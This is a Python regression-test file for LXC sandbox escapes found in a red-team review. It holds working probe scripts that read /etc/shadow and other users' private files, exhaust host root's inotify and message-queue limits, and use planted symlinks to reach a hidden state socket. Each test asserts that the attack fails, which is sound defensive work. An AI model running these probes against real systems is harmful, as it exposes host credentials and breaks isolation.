#!/usr/bin/python3
# SPDX-License-Identifier: LGPL-2.1-or-later
"""Escapes from LXC sandboxes that test_security_lxc.py does not cover,
found by a red-team pass over docs/security.md. Each test makes the attack
from inside a real sandbox and asserts that it failed and that the host is
unchanged; they fail while the hole is open.

- A privileged (-p) root has CAP_SETUID/CAP_SETGID (and the DAC
  capabilities) in a user namespace that maps every host id but root to
  itself: it becomes any host user or group (shadow, libvirt-qemu, ...) and
  reads /etc/shadow, every user's private files, a running VM sandbox's disk.
- The command's user namespace is owned by host root (the init made it), so
  the kernel charges the sandbox's inotify instances and watches to host
  root: any sandbox, also -S nobody, takes them all from the host's root.
- A guest bind below a grant is idmapped with the grant (recursive), so
  host root's files in it are the sandbox root's own; with a symlink the
  sandbox planted in its grant, the init binds whatever the sandbox wants,
  also the hidden state directory with the host's app socket.
"""
import ctypes
import grp
import os
import pwd
import shutil
import socket
import stat
import subprocess
import tempfile
import time
import unittest

import attacks
import sandboxtest
from sandboxtest import TIMEOUT, VIRT_SANDBOX, SandboxTestCase

PYTHON = "/usr/bin/python3"
NOBODY = 65534


def host_inotify_works():
    """(instance ok, watch ok) for host root, right now."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(os.O_CLOEXEC)
    if fd < 0:
        return (False, os.strerror(ctypes.get_errno()))
    try:
        wd = libc.inotify_add_watch(fd, b"/etc/hostname", 0x2)
        return (True, "ok" if wd >= 0 else os.strerror(ctypes.get_errno()))
    finally:
        os.close(fd)


# What the probes run inside (python3 -c).
READ_AS = r"""
import os, sys
uid, gid, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
try:
    if gid >= 0:
        os.setgroups([gid]); os.setresgid(gid, gid, gid)
    if uid >= 0:
        os.setresuid(uid, uid, uid)
except OSError as e:
    print("switch-failed", e); sys.exit(0)
try:
    with open(path, "rb") as f:
        print("READ:" + f.read(200).decode(errors="replace"))
except OSError as e:
    print("denied", e)
"""

INOTIFY_INSTANCES = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
fds = []
while len(fds) < 100000:
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    fds.append(fd)
print("instances", len(fds), flush=True)
print("HOLD", flush=True)
sys.stdin.buffer.read()
"""

INOTIFY_WATCHES = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
want = int(sys.argv[1]) + 1000
fd = libc.inotify_init1(0)
# One watch per new file in the private /tmp (a watch on an inode already
# watched is not a new one).
os.makedirs("/tmp/w", exist_ok=True)
wds, full = set(), False
for i in range(want):
    p = "/tmp/w/%d" % i
    open(p, "w").close()
    wd = libc.inotify_add_watch(fd, p.encode(), 0x2)
    if wd < 0:
        full = ctypes.get_errno() == 28
        break
    wds.add(wd)
print("watches", len(wds), "full", full, flush=True)
print("HOLD", flush=True)
sys.stdin.buffer.read()
"""

LIST_AND_CONNECT = r"""
import os, socket, sys
for d in sys.argv[1:]:
    try:
        names = sorted(os.listdir(d))
    except OSError as e:
        print(d, "unlistable", e.strerror); continue
    print(d, "LISTED", names)
    for n in names:
        p = os.path.join(d, n)
        if n.endswith(".sock"):
            s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            try:
                s.connect(p); print(p, "CONNECTED")
            except OSError as e:
                print(p, "refused", e.strerror)
        else:
            try:
                with open(p, "rb") as f:
                    print(p, "READ", f.read(60))
            except OSError as e:
                print(p, "denied", e.strerror)
"""


MQUEUES = r"""
import ctypes, os, sys
libc = ctypes.CDLL(None, use_errno=True)
class Attr(ctypes.Structure):
    _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long),
                ("msgsize", ctypes.c_long), ("cur", ctypes.c_long), ("pad", ctypes.c_long * 4)]
a = Attr(0, 10, 8192, 0)
n = 0
while n < 10000:
    if libc.mq_open(("/sbxred%d" % n).encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(a)) < 0:
        break
    n += 1
print("queues", n, flush=True)
print("HOLD", flush=True)
sys.stdin.buffer.read()
"""


def host_mqueue_works(name):
    """Whether host root can make one POSIX message queue (10 x 8 KiB)."""
    libc = ctypes.CDLL(None, use_errno=True)

    class Attr(ctypes.Structure):
        _fields_ = [("flags", ctypes.c_long), ("maxmsg", ctypes.c_long),
                    ("msgsize", ctypes.c_long), ("cur", ctypes.c_long),
                    ("pad", ctypes.c_long * 4)]
    a = Attr(0, 10, 8192, 0)
    fd = libc.mq_open(name.encode(), os.O_CREAT | os.O_RDWR, 0o600, ctypes.byref(a))
    if fd < 0:
        return os.strerror(ctypes.get_errno())
    os.close(fd)
    libc.mq_unlink(name.encode())
    return "ok"


class RedTeamCase(SandboxTestCase):
    maxDiff = None

    def setUp(self):
        super().setUp()
        self.tok = attacks.token()
        self.name = f"sbxred{self.tok}"

    def run_py(self, source, *args, options=()):
        r = self.sandbox(PYTHON, "-c", source, *map(str, args),
                         options=[*options, "-n", self.name])
        return r, r.stdout.decode(errors="replace")

    def held_py(self, source, *args, options=()):
        cmd = [VIRT_SANDBOX, "-c", self.URI, *options, "-n", self.name, "--",
               PYTHON, "-c", source, *map(str, args)]
        h = attacks.Held(cmd, timeout=TIMEOUT)
        self.addCleanup(h.kill)
        return h

    def host_dir(self, mode=0o755, owner=None):
        d = tempfile.mkdtemp(prefix=f"sbx-redteam-{self.tok}-", dir="/var/lib")
        os.chmod(d, mode)
        if owner is not None:
            os.chown(d, owner, owner)
        self.addCleanup(shutil.rmtree, d, ignore_errors=True)
        return d


class PrivilegedRootBecomesAnyHostId(RedTeamCase):
    """docs/security.md: the sandbox's root "has only 'other' rights" on
    root's files ("/etc/shadow ... closed to it"); it reads "what any
    unprivileged user could read"; other sandboxes are out of reach."""

    def test_privileged_root_joins_shadow_group_and_reads_etc_shadow(self):
        try:
            shadow = grp.getgrnam("shadow").gr_gid
        except KeyError:
            self.skipTest("no shadow group on this host")
        st = os.stat("/etc/shadow")
        if st.st_gid != shadow or not st.st_mode & stat.S_IRGRP:
            self.skipTest("/etc/shadow is not group-readable by shadow here")
        with open("/etc/shadow", "rb") as f:
            before = f.read()
        r, out = self.run_py(READ_AS, 0, shadow, "/etc/shadow", options=["-p"])
        self.assertNotIn("READ:", out,
                         f"a -p sandbox read /etc/shadow as group {shadow}: {out[:300]!r} "
                         f"(stderr {r.stderr[-500:]!r})")
        with open("/etc/shadow", "rb") as f:
            self.assertEqual(f.read(), before)

    def private_file_of(self, uid):
        d = self.host_dir(mode=0o700, owner=uid)
        secret = f"redteam-secret-{self.tok}"
        p = os.path.join(d, "secret")
        with open(p, "w") as f:
            f.write(secret + "\n")
        os.chmod(p, 0o600)
        os.chown(p, uid, uid)
        return p, secret

    def test_privileged_root_reads_another_host_users_private_file(self):
        # libvirt-qemu: what QEMU sandboxes' disks and libvirt's keys belong
        # to while a VM runs; else any non-root id.
        try:
            uid = pwd.getpwnam("libvirt-qemu").pw_uid
        except KeyError:
            uid = 4242
        p, secret = self.private_file_of(uid)
        leaks = {}
        # With the DAC capabilities, and by becoming the owner.
        for how, (u, g) in {"as-root": (-1, -1), "setuid-owner": (uid, uid)}.items():
            r, out = self.run_py(READ_AS, u, g, p, options=["-p"])
            if secret in out:
                leaks[how] = out.strip()[:200]
        self.assertEqual(leaks, {}, f"a -p sandbox read {p} (uid {uid}, 0600 in a 0700 dir)")

    def test_default_mode_cannot_read_it(self):
        # The control: without -p the same file stays closed.
        p, secret = self.private_file_of(4242)
        r, out = self.run_py(READ_AS, -1, -1, p)
        self.assertNotIn(secret, out)


class SandboxExhaustsHostRootsLimits(RedTeamCase):
    """docs/security.md "Bounded": the host stays responsive. The command's
    user namespace is owned by host root, so every inotify instance and
    watch a sandbox makes is charged to host root's per-user limits
    (fs.inotify.max_user_instances, 128 by default; max_user_watches), and
    so are its POSIX message queues' bytes (RLIMIT_MSGQUEUE)."""

    def exhaust(self, source, *args, check=host_inotify_works, good=(True, "ok")):
        self.assertEqual(check(), good, "already broken on the host")
        h = self.held_py(source, *args, options=["-S", "nobody"])
        try:
            h.wait_for("HOLD")
        except (EOFError, TimeoutError) as e:
            code, out, err = h.finish()
            self.fail(f"{e} (exit {code}, stderr {err[-1000:]!r})")
        try:
            during = check()
        finally:
            code, out, err = h.finish()
        self.assertEqual(during, good,
                         f"while a -S nobody sandbox held its objects, host root could not "
                         f"make its own ({during}); sandbox said {out[-200:]!r}")
        self.assertEqual(check(), good)

    def test_inotify_instances(self):
        self.exhaust(INOTIFY_INSTANCES)

    def test_inotify_watches(self):
        with open("/proc/sys/fs/inotify/max_user_watches") as f:
            limit = int(f.read())
        if limit > 400000:
            self.skipTest(f"max_user_watches is {limit}: too many files to make in 512 MiB")
        self.exhaust(INOTIFY_WATCHES, limit)

    def test_posix_message_queue_bytes(self):
        # RLIMIT_MSGQUEUE is counted per user namespace level too.
        name = f"/sbxred-host-{self.tok}"
        self.exhaust(MQUEUES, check=lambda: host_mqueue_works(name), good="ok")


class GuestBindsBelowGrants(RedTeamCase):
    """docs/security.md: host files owned by root look owned by nobody, the
    sandbox root has only 'other' rights on them; the state directory is
    hidden from the sandbox's own command."""

    def test_guest_bind_of_etc_below_private_tmp_reads_etc_shadow(self):
        r, out = self.run_py(READ_AS, -1, -1, "/tmp/etc/shadow",
                             options=["-m", "guest-bind:/tmp/etc=/etc"])
        self.assertNotIn("READ:", out,
                         f"the default-mode root read /etc/shadow through a guest bind below "
                         f"the idmapped /tmp: {out[:300]!r} (stderr {r.stderr[-500:]!r})")

    def test_symlink_planted_in_grant_redirects_guest_binds(self):
        grant = self.host_dir()
        # Run 1: the sandbox plants links in its own grant (allowed).
        r = self.sandbox("/bin/sh", "-c",
                         "ln -s /dev/.libvirt-sandbox /tmp/g/state && ln -s /etc /tmp/g/etc",
                         options=["-m", f"host-bind:/tmp/g={grant}", "-n", self.name])
        self.assertEqual(r.returncode, 0, r.stderr)
        # Run 2: the caller re-exposes parts of the grant with guest binds;
        # the init (host root) follows the links.
        opts = ["-m", f"host-bind:/tmp/g={grant}",
                "-m", "guest-bind:/tmp/state=/tmp/g/state",
                "-m", "guest-bind:/tmp/etc=/tmp/g/etc"]
        r, out = self.run_py(LIST_AND_CONNECT, "/tmp/state", options=opts)
        self.assertNotIn("LISTED ['", out,
                         f"the sandbox's command saw its hidden state directory: {out!r} "
                         f"(stderr {r.stderr[-500:]!r})")
        self.assertNotIn("CONNECTED", out, f"it connected to the host's app socket: {out!r}")
        r, out = self.run_py(READ_AS, -1, -1, "/tmp/etc/shadow", options=opts)
        self.assertNotIn("READ:", out, f"it read /etc/shadow through the link: {out[:300]!r}")


if __name__ == "__main__":
    sandboxtest.main()
